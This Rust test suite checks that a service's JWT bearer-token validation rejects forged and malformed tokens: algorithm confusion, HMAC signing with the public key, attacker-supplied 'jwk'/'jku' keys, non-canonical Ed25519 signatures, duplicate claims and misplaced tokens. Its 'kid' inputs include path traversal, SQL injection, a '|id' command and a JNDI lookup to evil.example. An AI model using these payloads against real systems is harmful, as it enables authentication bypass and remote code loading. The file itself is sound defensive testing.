//! Forged, bent and outlived tokens. What a token says when all is well, and single wrong claims: `oauth2.rs`.

use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, Ed25519KeyPair, KeyPair};
use aws_lc_rs::{hmac, signature};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use zvit_tests::client::Account;
use zvit_tests::directory::{DELTA, HOSPITAL};
use zvit_tests::{Answer, Client, Database, Server, Value, both, json, raw};

/// Whoever forges with the service's own key: what is refused then is refused by the content alone.
struct Forge<'s> {
    server: &'s Server,
    key: Ed25519KeyPair,
    kid: String,
    token: String,
    header: Value,
    claims: Value,
}

impl<'s> Forge<'s> {
    fn at(server: &'s Server) -> Self {
        let query = match server.store.database {
            Database::Sqlite => "SELECT kid || ' ' || hex(pkcs8) AS line FROM signing_keys WHERE state = 'active'",
            Database::Postgres => {
                "SELECT kid || ' ' || encode(pkcs8, 'hex') AS line FROM signing_keys WHERE state = 'active'"
            }
        };
        let lines = server.store.lines(query);
        let (kid, hex) = lines.first().and_then(|line| line.split_once(' ')).expect("an active key");
        let bytes: Vec<u8> = (0..hex.len() / 2)
            .map(|at| u8::from_str_radix(&hex[2 * at..2 * at + 2], 16).expect("hexadecimal"))
            .collect();
        let token = server.hospital().token().expect("a token");
        let part = |number: usize| {
            let part = token.split('.').nth(number).expect("three parts");
            serde_json::from_slice::<Value>(&URL_SAFE_NO_PAD.decode(part).expect("base64url")).expect("JSON")
        };
        let (header, claims) = (part(0), part(1));
        assert_eq!(header["kid"], kid);
        let key = Ed25519KeyPair::from_pkcs8_maybe_unchecked(&bytes).expect("a key");
        Self { server, key, kid: kid.to_owned(), token, header, claims }
    }

    /// Truly signed, whatever it says.
    fn signed(&self, header: &str, claims: &str) -> String {
        let text = unsigned(header, claims);
        let signature = URL_SAFE_NO_PAD.encode(self.key.sign(text.as_bytes()).as_ref());
        format!("{text}.{signature}")
    }

    fn with_header(&self, name: &str, to: Value) -> String {
        let mut header = self.header.clone();
        header[name] = to;
        self.signed(&header.to_string(), &self.claims.to_string())
    }

    fn with_claim(&self, name: &str, to: Value) -> String {
        let mut claims = self.claims.clone();
        claims[name] = to;
        self.signed(&self.header.to_string(), &claims.to_string())
    }

    #[track_caller]
    fn taken(&self, token: &str) {
        Client::with_token(&self.server.base, token).get("/v1/me").expect(200);
    }

    #[track_caller]
    fn refused(&self, token: &str, what: &str) {
        let answer = Client::with_token(&self.server.base, token).get("/v1/me").send();
        assert_eq!(answer.status, 401, "{what}: {answer}");
        check_refusal(answer, token);
    }
}

/// The refusal is whole, asks for a Bearer token, and repeats nothing of what was shown.
#[track_caller]
fn check_refusal(answer: Answer, token: &str) -> Answer {
    let code = answer.string("/code");
    assert!(code.starts_with("token_"), "{answer}");
    assert!(answer.header("www-authenticate").starts_with("Bearer"), "{answer}");
    for part in token.split('.').filter(|part| part.len() > 20) {
        assert!(!answer.text().contains(part), "the token comes back\n{answer}");
        let headers = answer.headers.values().map(|value| String::from_utf8_lossy(value.as_bytes()));
        assert!(headers.into_iter().all(|value| !value.contains(part)), "the token comes back\n{answer}");
    }
    answer.problem(401, &code)
}

fn unsigned(header: &str, claims: &str) -> String {
    format!("{}.{}", URL_SAFE_NO_PAD.encode(header), URL_SAFE_NO_PAD.encode(claims))
}

both!(no_other_algorithm_is_let_in_under_any_spelling, |server| {
    let forge = Forge::at(server);
    forge.taken(&forge.token);
    for alg in
        ["none", "None", "NONE", "nOnE", "", " EdDSA", "eddsa", "EDDSA", "Ed25519", "ES256", "RS256", "PS256", "HS256"]
    {
        let mut header = forge.header.clone();
        header["alg"] = json!(alg);
        let text = unsigned(&header.to_string(), &forge.claims.to_string());
        for token in [format!("{text}."), text.clone(), forge.with_header("alg", json!(alg))] {
            forge.refused(&token, &format!("alg {alg}"));
        }
    }
    for alg in [json!(["EdDSA"]), json!({"EdDSA": 1}), json!(0), json!(true), Value::Null] {
        forge.refused(&forge.with_header("alg", alg.clone()), &format!("alg {alg}"));
    }
});

both!(the_public_key_is_no_secret_to_sign_with, |server| {
    let forge = Forge::at(server);
    let public = forge.key.public_key().as_ref().to_vec();
    let x = URL_SAFE_NO_PAD.encode(&public);
    // SubjectPublicKeyInfo of RFC 8410.
    let der = [b"\x30\x2a\x30\x05\x06\x03\x2b\x65\x70\x03\x21\x00".as_slice(), &public].concat();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(&der));
    let jwks = server.anyone().get("/.well-known/jwks.json").expect(200);
    let secrets: Vec<Vec<u8>> = vec![
        public,
        x.into_bytes(),
        der,
        pem.trim_end().as_bytes().to_vec(),
        pem.into_bytes(),
        jwks.at("/keys/0").to_string().into_bytes(),
        jwks.bytes.clone(),
        forge.kid.clone().into_bytes(),
        Vec::new(),
    ];
    for (alg, algorithm) in [
        ("HS256", hmac::HMAC_SHA256),
        ("HS384", hmac::HMAC_SHA384),
        ("HS512", hmac::HMAC_SHA512),
        ("EdDSA", hmac::HMAC_SHA512),
    ] {
        let mut header = forge.header.clone();
        header["alg"] = json!(alg);
        let text = unsigned(&header.to_string(), &forge.claims.to_string());
        for secret in &secrets {
            let tag = hmac::sign(&hmac::Key::new(algorithm, secret), text.as_bytes());
            forge.refused(&format!("{text}.{}", URL_SAFE_NO_PAD.encode(tag)), alg);
        }
    }
});

both!(no_key_that_a_token_brings_along_is_used, |server| {
    let forge = Forge::at(server);
    let foreign = Ed25519KeyPair::generate().expect("a key");
    let x = URL_SAFE_NO_PAD.encode(foreign.public_key().as_ref());
    let own = |kid: &str| json!({"kty": "OKP", "crv": "Ed25519", "x": x, "kid": kid, "alg": "EdDSA", "use": "sig"});
    let sign = |header: &Value| {
        let text = unsigned(&header.to_string(), &forge.claims.to_string());
        format!("{text}.{}", URL_SAFE_NO_PAD.encode(foreign.sign(text.as_bytes()).as_ref()))
    };
    for (name, value) in [
        ("jwk", own(&forge.kid)),
        ("jku", json!("https://evil.example/jwks.json")),
        ("jku", json!(format!("{}/.well-known/jwks.json", server.base))),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!([STANDARD.encode(foreign.public_key().as_ref())])),
        ("x5t", json!("AAAA")),
        ("x5t#S256", json!("AAAA")),
        ("crit", json!([])),
        ("crit", json!(["kid"])),
        ("b64", json!(false)),
        ("cty", json!("JWT")),
        ("enc", json!("A256GCM")),
        ("zip", json!("DEF")),
        ("p2c", json!(2_000_000_000)),
        ("epk", own("x")),
    ] {
        let mut header = forge.header.clone();
        header[name] = value;
        forge.refused(&sign(&header), name);
        // Not even with a true signature: what isn't understood isn't passed over.
        forge.refused(&forge.signed(&header.to_string(), &forge.claims.to_string()), name);
    }
    for kid in [
        "../../../../dev/null",
        "/etc/passwd",
        "file:///proc/self/environ",
        "' OR '1'='1",
        "x' UNION SELECT 'AAAA' --",
        "",
        " ",
        "\0",
        "|id",
        "${jndi:ldap://evil.example/a}",
        &forge.kid.to_uppercase(),
        &format!("{} ", forge.kid),
        &format!("{}\0", forge.kid),
        &"k".repeat(2_000),
    ] {
        let mut header = forge.header.clone();
        header["kid"] = json!(kid);
        forge.refused(&sign(&header), "kid");
        forge.refused(&forge.signed(&header.to_string(), &forge.claims.to_string()), "kid");
    }
    for kid in [json!(0), json!([forge.kid]), json!({"kid": forge.kid}), Value::Null, json!(true)] {
        forge.refused(&forge.with_header("kid", kid), "kid");
    }
    for typ in [
        json!("at+JWT"),
        json!("application/at+jwt"),
        json!(["at+jwt"]),
        json!("at+jwt "),
        json!(""),
        json!("id+jwt"),
        json!("logout+jwt"),
    ] {
        forge.refused(&forge.with_header("typ", typ), "typ");
    }
});

both!(a_signature_of_another_kind_of_key_is_none, |server| {
    let forge = Forge::at(server);
    let random = SystemRandom::new();
    let document = EcdsaKeyPair::generate_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, &random).expect("a key");
    let pair = EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, document.as_ref()).expect("a key");
    for alg in ["ES256", "EdDSA"] {
        let mut header = forge.header.clone();
        header["alg"] = json!(alg);
        let text = unsigned(&header.to_string(), &forge.claims.to_string());
        let signature = pair.sign(&random, text.as_bytes()).expect("a signature");
        forge.refused(&format!("{text}.{}", URL_SAFE_NO_PAD.encode(signature.as_ref())), alg);
    }
    let mut header = forge.header.clone();
    header["alg"] = json!("RS256");
    forge.refused(
        &format!("{}.{}", unsigned(&header.to_string(), &forge.claims.to_string()), URL_SAFE_NO_PAD.encode([7; 256])),
        "RS256",
    );
});

/// The order of the base point of Ed25519, little-endian (RFC 8032, section 5.1).
const ORDER: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14, 0, 0, 0, 0, 0, 0,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

both!(a_signature_has_one_form, |server| {
    let forge = Forge::at(server);
    let (text, encoded) = forge.token.rsplit_once('.').expect("three parts");
    let bytes = URL_SAFE_NO_PAD.decode(encoded).expect("base64url");
    assert_eq!(bytes.len(), 64);
    let refused =
        |signature: &[u8], what: &str| forge.refused(&format!("{text}.{}", URL_SAFE_NO_PAD.encode(signature)), what);
    let mut larger = bytes.clone();
    let mut carry = 0_u16;
    for (place, add) in larger[32..].iter_mut().zip(ORDER) {
        let sum = u16::from(*place) + u16::from(add) + carry;
        (*place, carry) = (sum.to_le_bytes()[0], sum >> 8);
    }
    assert_eq!(carry, 0, "S + L fits");
    refused(&larger, "S + L");
    for length in [0, 1, 32, 63] {
        refused(&bytes[..length], "truncated");
    }
    refused(&[bytes.as_slice(), &[0]].concat(), "a byte too many");
    refused(&[bytes.as_slice(), &bytes].concat(), "twice");
    refused(&[0; 64], "nothing but zeros");
    // The neutral element as R, with S = 0.
    let mut neutral = [0; 64];
    neutral[0] = 1;
    refused(&neutral, "the neutral element");
    let mut swapped = bytes[32..].to_vec();
    swapped.extend_from_slice(&bytes[..32]);
    refused(&swapped, "S before R");
    for at in [0, 31, 32, 63] {
        let mut flipped = bytes.clone();
        flipped[at] ^= 1;
        refused(&flipped, "a bit flipped");
    }
    // The signature by the same key of something else.
    let other = signature_of(&forge.key, b"something else");
    refused(&other, "of another text");
});

fn signature_of(key: &Ed25519KeyPair, text: &[u8]) -> Vec<u8> {
    let signature: signature::Signature = key.sign(text);
    signature.as_ref().to_vec()
}

both!(a_token_is_written_in_one_way, |server| {
    let forge = Forge::at(server);
    let parts: Vec<&str> = forge.token.split('.').collect();
    let [header, claims, signature] = parts[..] else { panic!("three parts") };
    let decode = |part: &str| URL_SAFE_NO_PAD.decode(part).expect("base64url");
    // Of 64 bytes the last character holds four bits that mean nothing: other values would be other spellings.
    let last = signature.chars().last().expect("a character");
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let place = alphabet.find(last).expect("base64url");
    let next = &alphabet[place + 1..place + 2];
    let bent = format!("{}{next}", &signature[..signature.len() - 1]);
    let standard = STANDARD_NO_PAD.encode(decode(signature));
    let mut odd = vec![
        format!("{header}.{claims}.{bent}"),
        format!("{header}.{claims}.{signature}="),
        format!("{header}.{claims}.{signature}=="),
        format!("{header}.{claims}.{}", URL_SAFE.encode(decode(signature))),
        format!("{}.{claims}.{signature}", URL_SAFE.encode(forge.header.to_string() + " ")),
        format!("{header}=.{claims}.{signature}"),
        format!("{header}.{claims}.{signature}."),
        format!(".{header}.{claims}.{signature}"),
        format!("{header}.{claims}.{signature}.{signature}"),
        format!("{header}.{claims}.{signature}.{signature}.{signature}"),
        format!("{header}..{signature}"),
        format!(".{claims}.{signature}"),
        format!("{header}.{claims}"),
        format!("{claims}.{header}.{signature}"),
        format!("{header}. {claims}.{signature}"),
        format!("{header}.{claims}.{signature} {signature}"),
        format!("{header}.{claims}.{signature},{signature}"),
        format!("\"{}\"", forge.token),
        format!("{}%00", forge.token),
        forge.token.to_uppercase(),
        forge.token.to_lowercase(),
        forge.token.replace('.', ","),
        forge.token.repeat(2),
        format!("{}.", "A".repeat(200_000)),
        ".".repeat(50_000),
    ];
    if standard != signature {
        odd.push(format!("{header}.{claims}.{standard}"));
    }
    for token in &odd {
        let authorization = format!("Bearer {token}");
        let headers = [("Authorization", authorization.as_str())];
        let answer = raw::exchange(&server.base, &raw::request("GET", "/v1/me", &headers, b""));
        // What is longer than a header may be doesn't get as far as a token.
        assert!([400, 401, 431].contains(&answer.status), "{token:.200}: {answer}");
        assert!(!answer.text().contains(signature), "the token comes back\n{answer}");
    }
    // A token within a token, and one whose parts are lists.
    forge.refused(&forge.signed(&forge.header.to_string(), &json!(forge.token).to_string()), "nested");
    forge.refused(&forge.signed(&forge.header.to_string(), "[]"), "a list");
    forge.refused(&forge.signed("[]", &forge.claims.to_string()), "a list");
    forge.refused(&forge.signed("", ""), "nothing");
    forge.refused(&forge.signed(&format!("\u{feff}{}", forge.header), &forge.claims.to_string()), "a mark");
    forge.refused(&forge.signed(&format!("{} x", forge.header), &forge.claims.to_string()), "something behind");
    forge.refused(&forge.signed(&forge.header.to_string(), &format!("{} {}", forge.claims, forge.claims)), "two");
});

both!(claims_mean_one_thing_or_nothing, |server| {
    let forge = Forge::at(server);
    let now = zvit_tests::now().as_seconds();
    let grid = server.grid().account().client_id.clone();
    let cv = forge.claims["cv"].as_i64().expect("an integer");
    for (name, to) in [
        ("exp", json!(-1)),
        ("exp", json!(0)),
        ("exp", json!(1e300)),
        ("exp", json!(now as f64 + 600.5)),
        ("exp", json!(u64::MAX)),
        ("exp", json!(i64::MAX)),
        ("exp", json!(now + 365 * 86_400)),
        ("exp", json!((now + 600).to_string())),
        ("exp", json!([now + 600])),
        ("exp", json!(true)),
        ("nbf", json!(now + 3_600)),
        ("nbf", json!("0")),
        ("nbf", json!(i64::MAX)),
        ("iat", json!(now + 3_600)),
        ("iat", json!(-1)),
        ("iat", json!("now")),
        ("aud", json!(["https://zvit.localhost"])),
        ("aud", json!("https://zvit.localhost/")),
        ("aud", json!("HTTPS://ZVIT.LOCALHOST")),
        ("aud", json!({"https://zvit.localhost": 1})),
        ("iss", json!(["https://zvit.localhost"])),
        ("iss", json!("https://zvit.localhost ")),
        ("sub", json!(grid)),
        ("sub", json!("")),
        ("sub", json!(7)),
        ("client_id", json!(grid)),
        ("client_id", json!([forge.claims["client_id"]])),
        ("client_id", json!(forge.claims["client_id"].as_str().expect("a text").to_uppercase() + " ")),
        ("cv", json!(cv + 1)),
        ("cv", json!(cv - 1)),
        ("cv", json!(cv.to_string())),
        ("cv", json!(cv as f64 + 0.5)),
        ("cv", json!(cv + (1_i64 << 32))),
        ("cv", json!(-cv)),
        ("jti", json!("")),
        ("jti", json!(1)),
        ("scope", json!(["incidents:read"])),
        ("scope", json!(7)),
    ] {
        forge.refused(&forge.with_claim(name, to.clone()), &format!("{name} = {to}"));
    }
    // Said twice, the first reader and the second might believe different things.
    let whole = forge.claims.to_string();
    for (name, to) in [
        ("exp", json!(now + 600)),
        ("sub", json!(grid)),
        ("client_id", json!(grid)),
        ("scope", json!("audit:read")),
        ("aud", forge.claims["aud"].clone()),
        ("cv", json!(cv)),
        ("iss", forge.claims["iss"].clone()),
    ] {
        let text = json!(name);
        let before = format!("{{{text}:{to},{}", &whole[1..]);
        let behind = format!("{},{text}:{to}}}", &whole[..whole.len() - 1]);
        let escaped =
            format!("{},\"\\u{:04x}{}\":{to}}}", &whole[..whole.len() - 1], u32::from(name.as_bytes()[0]), &name[1..]);
        for claims in [before, behind, escaped] {
            forge.refused(&forge.signed(&forge.header.to_string(), &claims), &format!("{name} twice"));
        }
    }
    let header = forge.header.to_string();
    for (name, to) in [("alg", "none"), ("alg", "EdDSA"), ("typ", "at+jwt"), ("kid", forge.kid.as_str())] {
        for twice in [
            format!("{{\"{name}\":\"{to}\",{}", &header[1..]),
            format!("{},\"{name}\":\"{to}\"}}", &header[..header.len() - 1]),
        ] {
            forge.refused(&forge.signed(&twice, &whole), &format!("{name} twice"));
        }
    }
});

both!(a_scope_that_the_client_does_not_hold_opens_nothing, |server| {
    let forge = Forge::at(server);
    let everything = "incidents:read incidents:write cases:read cases:write directory:read directory:write routing:read \
                      routing:write triage:write audit:read statistics:read *";
    let client = Client::with_token(&server.base, &forge.with_claim("scope", json!(everything)));
    client.get("/v1/incidents").expect(200);
    for path in ["/v1/audit-events", "/v1/clients", "/v1/institutions", "/v1/routing-rules", "/v1/cases"] {
        client.get(path).problem(403, "scope_lacking");
    }
    let scopes = client.get("/v1/me").expect(200);
    assert_eq!(scopes.list("/scopes").len(), 2, "{scopes}");
    for scope in [
        "",
        " ",
        "INCIDENTS:READ",
        "incidents:*",
        "incidents",
        "incidents:read,incidents:write",
        "incidents:readx",
        "openid",
    ] {
        Client::with_token(&server.base, &forge.with_claim("scope", json!(scope)))
            .get("/v1/incidents")
            .problem(403, "scope_lacking");
    }
});

both!(a_token_comes_in_one_header_and_nowhere_else, |server| {
    let forge = Forge::at(server);
    let token = &forge.token;
    let anyone = server.anyone();
    for path in [
        format!("/v1/me?access_token={token}"),
        format!("/v1/incidents?access_token={token}"),
        format!("/v1/incidents?token={token}"),
    ] {
        check_refusal(anyone.get(&path).send().expect(401), "");
    }
    for header in ["cookie", "x-access-token", "proxy-authorization", "x-authorization", "x-forwarded-authorization"] {
        for value in [format!("Bearer {token}"), format!("access_token={token}")] {
            check_refusal(anyone.get("/v1/me").header(header, &value).send().expect(401), token);
        }
    }
    let form = anyone.post("/v1/incidents").form(&[("access_token", token), ("description", "x")]);
    check_refusal(form.send().expect(401), token);
    for scheme in ["bearer", "BEARER", "bEaReR"] {
        anyone.get("/v1/me").header("authorization", &format!("{scheme} {token}")).expect(200);
    }
    for value in [
        token.clone(),
        format!("Bearer:{token}"),
        format!("Bearer\t{token}"),
        format!("Bearer{token}"),
        format!("Token {token}"),
        format!("JWT {token}"),
        format!("Bearer Bearer {token}"),
        format!("Bearer {token}, Bearer {token}"),
        format!("Basic {token}"),
        format!("Bearer access_token={token}"),
        format!("DPoP {token}"),
    ] {
        check_refusal(anyone.get("/v1/me").header("authorization", &value).send().expect(401), token);
    }
    for bytes in [b"Bearer \xff\xfe".as_slice(), "Bearer токен".as_bytes(), b"\xa0Bearer x", b"Bearer \xc0\xaf"] {
        let head = b"GET /v1/me HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: ".as_slice();
        check_refusal(raw::exchange(&server.base, &[head, bytes, b"\r\n\r\n"].concat()).expect(401), "");
    }
    // Two of them, in either order: a proxy might have judged the other one.
    let true_one = format!("Bearer {token}");
    for pair in
        [[true_one.as_str(), "Bearer x"], ["Bearer x", &true_one], [&true_one, &true_one], ["Basic eDp5", &true_one]]
    {
        let headers = [("Authorization", pair[0]), ("authorization", pair[1])];
        check_refusal(raw::exchange(&server.base, &raw::request("GET", "/v1/me", &headers, b"")).expect(401), token);
    }
});

both!(a_token_ends_with_what_it_stands_for, |server| {
    let coordinator = server.coordinator();
    let reason = json!({"reason": "Перевірка"});
    let make = |role: &str, owner: &str| {
        let body = json!({"role": role, "owner": owner, "name": "Тимчасовий"});
        Account::read(&coordinator.post("/v1/clients").fresh_key().json(body).expect(201).value)
    };
    // Its owner's end.
    for (path, account, list) in [
        (format!("/v1/institutions/{HOSPITAL}"), make("institution", HOSPITAL), "/v1/incidents"),
        (format!("/v1/teams/{DELTA}"), make("team", DELTA), "/v1/cases"),
    ] {
        let client = server.client(&account);
        client.get(list).expect(200);
        coordinator.post(&format!("{path}/deactivate")).json(reason.clone()).expect(200);
        client.get(list).problem(401, "token_revoked");
        let token = server.anyone().post("/oauth2/token").header("authorization", &account.basic());
        token.form(&[("grant_type", "client_credentials")]).expect(401).with("/error", "invalid_client");
        coordinator.post(&format!("{path}/activate")).json(reason.clone()).expect(200);
        client.get(list).expect(200);
    }
    // A scope taken away is gone from tokens that are out already.
    let account = make("institution", HOSPITAL);
    let (path, client) = (format!("/v1/clients/{}", account.client_id), server.client(&account));
    client.post("/v1/incidents").fresh_key().json(json!({"description": "Подія"})).expect(201);
    let tag = coordinator.get(&path).expect(200).etag();
    coordinator.put(&path).if_match(&tag).json(json!({"name": "Лише читає", "scopes": ["incidents:read"]})).expect(200);
    client.post("/v1/incidents").fresh_key().json(json!({"description": "Подія"})).problem(403, "scope_lacking");
    client.get("/v1/incidents").expect(200);
});
